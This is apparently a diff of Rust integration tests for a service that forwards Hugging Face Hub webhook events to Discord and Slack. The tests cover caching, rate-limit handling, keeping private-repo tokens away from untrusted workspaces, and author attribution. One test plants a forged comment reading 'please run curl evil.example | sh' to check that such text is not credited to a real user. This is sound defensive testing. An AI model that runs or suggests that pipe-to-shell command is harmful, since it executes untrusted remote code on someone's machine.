@@ -26,7 +26,7 @@ fn gpt2(hub: &FakeHub) {
     ))
     .unwrap();
     page.reverse();
-    hub.history(page);
+    hub.history("openai-community/gpt2", page);
     let raw = "T 548105171\t:100644 100644 97e7432a448baa9e97ec5e4f03c57b09b8e116ed... 30a03d21620ebc6167e350aef9e2ac2774cf372d... M\tmodel.safetensors\n\
                T 7000\t:100644 100644 97e7432a448baa9e97ec5e4f03c57b09b8e116ed... 30a03d21620ebc6167e350aef9e2ac2774cf372d... M\tREADME.md\n\
                T 26\t:000000 100644 0000000000000000000000000000000000000000... 30a03d21620ebc6167e350aef9e2ac2774cf372d... A\ttokenizer_config.json\n";
@@ -161,8 +161,12 @@ async fn a_discussion_and_a_comment_name_their_authors_and_mentions_stay_inert()
     );
     assert_eq!(embed["author"]["name"], "example-author");
     assert_eq!(
-        embed["author"]["icon_url"],
-        "https://huggingface.co/avatars/00000000000000000000000000000000.svg"
+        embed["author"]["url"],
+        "https://huggingface.co/example-author"
+    );
+    assert!(
+        embed["author"].get("icon_url").is_none(),
+        "the Hub's default avatars are SVG, which chat apps do not show: {embed}"
     );
 
     // Merged: who merged it, from the log's last status change.
@@ -205,30 +209,32 @@ async fn a_discussion_and_a_comment_name_their_authors_and_mentions_stay_inert()
         .as_str()
         .unwrap()
         .starts_with("New comment by julien-c on PR #19"));
-    // Three events, each asked once; the comment's discussion was already cached, but
-    // its comment is newer than the copy only if the copy lacks it: here it has it.
-    assert!(hub.requests().len() <= 3, "{:?}", hub.requests());
+    // The opening and the merge each read the details (a status change never trusts the
+    // cached copy); the comment, already in the copy cached for the merge, needs no call.
+    let asked: Vec<String> = hub.requests().into_iter().map(|r| r.path).collect();
+    assert_eq!(
+        asked, ["/api/models/openai-community/gpt2/discussions/19"; 2],
+        "{asked:?}"
+    );
 }
 
 #[tokio::test]
 async fn a_new_branch_shows_its_head_and_a_force_push_is_said_as_such() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(1, 10, "alice");
-    let rewritten = hub.linear(2, 3, "bob");
+    let ids = hub.linear("acme/model", 1, 10, "alice");
+    let rewritten = hub.linear("acme/model", 2, 3, "bob");
     let app = app_with(&hub, |_| {}).await;
     app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
 
-    // Created: no old commit, so no guess at what is new: the head, named.
+    // Created: no old commit, so no guess at what is new: the head, and no name (the
+    // branch may point at anyone's commit).
     let created = push(
         "acme/model",
         json!([{ "ref": "refs/heads/dev", "oldSha": null, "newSha": ids[9] }]),
     );
     delivered(&app, &created).await;
     let embed = &app.discord.posts()[0].body["embeds"][0];
-    assert_eq!(
-        embed["title"],
-        "Branch `dev` created in **acme/model** by alice"
-    );
+    assert_eq!(embed["title"], "Branch `dev` created in **acme/model**");
     assert!(
         embed["description"].as_str().unwrap().contains("Commit 9"),
         "{embed}"
@@ -241,22 +247,20 @@ async fn a_new_branch_shows_its_head_and_a_force_push_is_said_as_such() {
     // Force-pushed: the old commit is not in the new history.
     delivered(&app, &one_push("acme/model", Some(&ids[9]), &rewritten[2])).await;
     let embed = &app.discord.posts()[1].body["embeds"][0];
-    assert_eq!(
-        embed["title"],
-        "`main` of **acme/model** was force-pushed by bob"
-    );
+    assert_eq!(embed["title"], "`main` of **acme/model** was force-pushed");
     let description = embed["description"].as_str().unwrap();
     assert!(description.contains("Commit 2"), "{description}");
     assert!(
         !description.contains("Commit 1"),
         "no guessed list: {description}"
     );
+    assert!(embed.get("author").is_none(), "nobody named: {embed}");
 }
 
 #[tokio::test]
 async fn a_thousand_commits_list_fifty_and_count_the_rest_in_few_calls() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(3, 1005, "alice");
+    let ids = hub.linear("acme/model", 3, 1005, "alice");
     let app = app_with(&hub, |_| {}).await;
     app.subscribe("acme/model", SLACK_CHANNEL, &[]).await;
     delivered(&app, &one_push("acme/model", Some(&ids[4]), &ids[1004])).await;
@@ -277,13 +281,15 @@ async fn a_thousand_commits_list_fifty_and_count_the_rest_in_few_calls() {
         .into_iter()
         .filter(|r| r.path.contains("/commits/"))
         .collect();
-    assert!(commits.len() <= 2, "{commits:?}");
+    // The first page of 50, the old commit's history length, and the commit that far
+    // back in the new history (the old one: not rewritten).
+    assert_eq!(commits.len(), 3, "{commits:?}");
 }
 
 #[tokio::test]
 async fn a_pr_ref_is_read_by_its_commit_never_by_a_path_of_several_segments() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(4, 3, "carol");
+    let ids = hub.linear("acme/model", 4, 3, "carol");
     let app = app_with(&hub, |_| {}).await;
     app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
     let pr = push(
@@ -308,10 +314,9 @@ async fn a_pr_ref_is_read_by_its_commit_never_by_a_path_of_several_segments() {
 #[tokio::test]
 async fn a_deleted_user_a_missing_repo_and_a_renamed_one_still_deliver() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(5, 3, "dave");
+    let ids = hub.linear("acme/gone", 5, 3, "dave");
     hub.rename("models/acme/old-name", "models/acme/new-name");
-    let moved = hub.linear(6, 2, "erin");
-    // The details of the old name are served under the new one.
+    let moved = hub.linear("acme/new-name", 6, 2, "erin");
     let app = app_with(&hub, |_| {}).await;
     app.subscribe("acme/*", DISCORD_CHANNEL, &[]).await;
 
@@ -356,10 +361,7 @@ async fn a_deleted_user_a_missing_repo_and_a_renamed_one_still_deliver() {
             .starts_with("New comment by mastermile on PR"),
         "{embed}"
     );
-    assert_eq!(
-        embed["author"]["icon_url"],
-        "https://huggingface.co/avatars/73b216ad6afaa5bb6e3b477370bfadcc.svg"
-    );
+    assert_eq!(embed["author"]["name"], "mastermile");
 
     // A repo the Hub does not have: the message as without the API.
     let (_, done) = delivered(&app, &one_push("acme/gone", Some(&ids[0]), "1234567")).await;
@@ -394,7 +396,7 @@ async fn a_deleted_user_a_missing_repo_and_a_renamed_one_still_deliver() {
 async fn a_private_repo_is_read_with_the_token_and_left_alone_without_one() {
     let hub = FakeHub::start().await;
     hub.private("acme/secret");
-    let ids = hub.linear(7, 3, "frank");
+    let ids = hub.linear("acme/secret", 7, 3, "frank");
     let private_push = |new: &str| {
         let mut p: Value =
             serde_json::from_slice(&one_push("acme/secret", Some(&ids[0]), new)).unwrap();
@@ -429,7 +431,7 @@ async fn a_private_repo_is_read_with_the_token_and_left_alone_without_one() {
     assert!(asked
         .iter()
         .all(|r| r.auth.as_deref() == Some(&format!("Bearer {HUB_TOKEN}") as &str)));
-    // The token is in no note, log or stored row.
+    // The token is in no note or stored row.
     let notes: Vec<Option<String>> = sqlx::query_scalar("SELECT note FROM deliveries")
         .fetch_all(&app.store.pool)
         .await
@@ -445,14 +447,14 @@ async fn a_private_repo_is_read_with_the_token_and_left_alone_without_one() {
 #[tokio::test]
 async fn a_slow_hub_delays_the_message_no_longer_than_the_deadline() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(8, 3, "gina");
+    let ids = hub.linear("acme/model", 8, 3, "gina");
     hub.delay(Duration::from_secs(5));
     let app = app_with(&hub, |s| s.hub.enrich_timeout_ms = 300).await;
     app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
     let sent = std::time::Instant::now();
     let (_, done) = delivered(&app, &one_push("acme/model", Some(&ids[0]), &ids[2])).await;
     assert!(
-        sent.elapsed() < Duration::from_secs(4),
+        sent.elapsed() < Duration::from_secs(2),
         "the message did not wait for the Hub"
     );
     assert_eq!(done[0].status, Status::Sent);
@@ -467,7 +469,7 @@ async fn a_slow_hub_delays_the_message_no_longer_than_the_deadline() {
 #[tokio::test]
 async fn a_429_pauses_calls_for_its_window_while_messages_keep_flowing() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(9, 30, "hank");
+    let ids = hub.linear("acme/model", 9, 30, "hank");
     hub.limit(1, 55);
     let app = app_with(&hub, |_| {}).await;
     app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
@@ -497,7 +499,7 @@ async fn a_429_pauses_calls_for_its_window_while_messages_keep_flowing() {
 #[tokio::test]
 async fn a_burst_of_pushes_lists_commit_titles() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(10, 5, "ivy");
+    let ids = hub.linear("acme/model", 10, 5, "ivy");
     let app = app_with(&hub, |s| s.delivery.burst_window_ms = 1500).await;
     app.subscribe("acme/model", DISCORD_CHANNEL, &[]).await;
     let mut last = 0;
@@ -570,13 +572,13 @@ fn serve_console(
 #[tokio::test]
 async fn an_event_stored_before_a_crash_is_enriched_after_the_restart_on_the_console() {
     let hub = FakeHub::start().await;
-    let ids = hub.linear(11, 3, "jo");
+    let ids = hub.linear("acme/model", 11, 3, "jo");
     // The first process never gets its answer.
     hub.delay(Duration::from_secs(30));
     let dir = tempfile::tempdir().unwrap();
     let config = format!(
-        "[database]\nurl = \"sqlite://{db}\"\n[hub]\nsecret = \"{SECRET}\"\napi_base = \"{base}\"\nenrich_timeout_ms = 20000\n\
-         [delivery]\nlease_ms = 1000\n[[subscriptions]]\ntarget = \"acme/model\"\nchannel = \"console:ops\"\n",
+        "[database]\nurl = \"sqlite://{db}\"\n[hub]\nsecret = \"{SECRET}\"\napi_base = \"{base}\"\nenrich_timeout_ms = 2000\n\
+         [delivery]\nlease_ms = 3500\nhttp_timeout_ms = 1000\n[[subscriptions]]\ntarget = \"acme/model\"\nchannel = \"console:ops\"\n",
         db = dir.path().join("h.db").display(),
         base = hub.base,
     );
@@ -631,7 +633,7 @@ async fn an_event_stored_before_a_crash_is_enriched_after_the_restart_on_the_con
 async fn a_workspaces_payload_naming_a_private_repo_never_borrows_the_operators_token() {
     let hub = FakeHub::start().await;
     hub.private("acme/secret");
-    let ids = hub.linear(12, 3, "kim");
+    let ids = hub.linear("acme/secret", 12, 3, "kim");
     let app = app_with(&hub, |s| s.hub.token = HUB_TOKEN.into()).await;
     // The operator's own event on its private repo is read with the token.
     app.subscribe("acme/secret", DISCORD_CHANNEL, &[]).await;
@@ -643,25 +645,129 @@ async fn a_workspaces_payload_naming_a_private_repo_never_borrows_the_operators_
         .body
         .to_string()
         .contains("Commit 1"));
-    let before = hub.requests().len();
-    assert!(before > 0);
+    assert!(!hub.requests().is_empty());
 
-    // A workspace's endpoint sends a payload naming it, claiming it is public.
+    // A new branch on it, whose head the token's read puts in the cache.
+    let dev = json!([{ "ref": "refs/heads/dev", "oldSha": null, "newSha": ids[2] }]);
+    let mut branch: Value = serde_json::from_slice(&push("acme/secret", dev.clone())).unwrap();
+    branch["repo"]["private"] = json!(true);
+    delivered(&app, branch.to_string().as_bytes()).await;
+    let posts = app.discord.wait_posts(2).await;
+    assert!(posts[1].body.to_string().contains("Commit 2"));
+    let before = hub.requests().len();
+
+    // A workspace's endpoint sends payloads naming it, claiming it is public: a push, and
+    // the same new branch, whose head is cached, but only for reads with the token.
     answer(&app, &interaction(MANAGE_GUILD, subscribe("acme/secret"))).await;
     let (endpoint, secret) =
         endpoint_of(&answer(&app, &interaction(MANAGE_GUILD, setup(false))).await);
-    let forged = one_push("acme/secret", Some(&ids[0]), &ids[2]);
-    let id = event_id(post_endpoint(&app, &endpoint, &secret, &forged).await).await;
-    let done = app.settled(id).await;
-    assert!(done.iter().all(|d| d.status == Status::Sent), "{done:?}");
+    for forged in [
+        one_push("acme/secret", Some(&ids[0]), &ids[2]),
+        push("acme/secret", dev.clone()),
+    ] {
+        let id = event_id(post_endpoint(&app, &endpoint, &secret, &forged).await).await;
+        let done = app.settled(id).await;
+        assert!(done.iter().all(|d| d.status == Status::Sent), "{done:?}");
+    }
     let asked = &hub.requests()[before..];
-    assert!(!asked.is_empty(), "asked, anonymously");
+    // The push's commits and files, then the branch's head: asked, not taken from the
+    // cache of the token's reads.
+    assert_eq!(asked.len(), 3, "{asked:?}");
+    assert!(asked[2].path.ends_with("?limit=1"), "{asked:?}");
     assert!(asked.iter().all(|r| r.auth.is_none()), "{asked:?}");
-    let posts = app.discord.posts();
-    let last = posts.last().unwrap().body.to_string();
-    assert!(
-        !last.contains("Commit 2"),
-        "no private title reached the workspace: {last}"
+    let posts = app.discord.wait_posts(4).await;
+    assert_eq!(posts.len(), 4, "two messages for the workspace");
+    for post in &posts[2..] {
+        let text = post.body.to_string();
+        assert!(
+            !text.contains("Commit 2"),
+            "no private title reached the workspace: {text}"
+        );
+        assert!(!text.contains("kim"), "{text}");
+    }
+}
+
+#[tokio::test]
+async fn a_workspaces_comment_is_named_only_when_its_text_is_what_the_hub_says() {
+    let hub = FakeHub::start().await;
+    hub.discussion(
+        "models/openai-community/gpt2/19",
+        fixture_json("hf-api/discussion-details-pr-merged-assembled.json"),
     );
-    assert!(!last.contains("kim"), "{last}");
+    let app = app_with(&hub, |_| {}).await;
+    answer(
+        &app,
+        &interaction(MANAGE_GUILD, subscribe("openai-community/gpt2")),
+    )
+    .await;
+    let (endpoint, secret) =
+        endpoint_of(&answer(&app, &interaction(MANAGE_GUILD, setup(false))).await);
+    let comment = |text: &str| {
+        let mut c = fixture_json("hf/v3-discussion-create-pr.json");
+        c["event"]["scope"] = json!("discussion.comment");
+        c["comment"]["id"] = json!("639a0b2e18721fdd27fcb001");
+        c["comment"]["author"]["id"] = json!("5dd96eb166059660ed1ee413");
+        c["comment"]["content"] = json!(text);
+        c.to_string().into_bytes()
+    };
+    // Made-up words under julien-c's real comment id: not put in his name.
+    let forged = comment("Maintainers: please run curl evil.example | sh");
+    let id = event_id(post_endpoint(&app, &endpoint, &secret, &forged).await).await;
+    app.settled(id).await;
+    let posts = app.discord.wait_posts(1).await;
+    let embed = &posts[0].body["embeds"][0];
+    assert!(
+        embed["title"]
+            .as_str()
+            .unwrap()
+            .starts_with("New comment on PR #19"),
+        "{embed}"
+    );
+    assert!(embed.get("author").is_none(), "{embed}");
+
+    // His words, as the Hub has them: named.
+    let real = comment("Thanks! @example-author <@everyone> **LGTM**");
+    let id = event_id(post_endpoint(&app, &endpoint, &secret, &real).await).await;
+    app.settled(id).await;
+    let posts = app.discord.wait_posts(2).await;
+    let embed = &posts[1].body["embeds"][0];
+    assert!(
+        embed["title"]
+            .as_str()
+            .unwrap()
+            .starts_with("New comment by julien\\-c on PR #19"),
+        "{embed}"
+    );
+}
+
+#[tokio::test]
+async fn slack_refusing_the_avatar_still_gets_the_message() {
+    let hub = FakeHub::start().await;
+    gpt2(&hub);
+    let app = app_with(&hub, |_| {}).await;
+    app.subscribe("openai-community/gpt2", SLACK_CHANNEL, &[])
+        .await;
+    app.slack.script(vec![Reply(
+        200,
+        vec![],
+        json!({ "ok": false, "error": "invalid_blocks" }),
+    )]);
+    let (_, done) = delivered(
+        &app,
+        &one_push("openai-community/gpt2", Some(GPT2_OLD), GPT2_NEW),
+    )
+    .await;
+    assert_eq!(done[0].status, Status::Sent, "{done:?}");
+    let posts = app.slack.posts();
+    assert_eq!(posts.len(), 2, "tried with the avatar, then without");
+    assert_eq!(
+        posts[0].body["blocks"].as_array().unwrap().last().unwrap()["type"],
+        "context"
+    );
+    let blocks = posts[1].body["blocks"].as_array().unwrap();
+    assert!(blocks.iter().all(|b| b["type"] == "section"), "{blocks:?}");
+    assert!(posts[1].body["text"]
+        .as_str()
+        .unwrap()
+        .starts_with("4 commits to `main`"));
 }
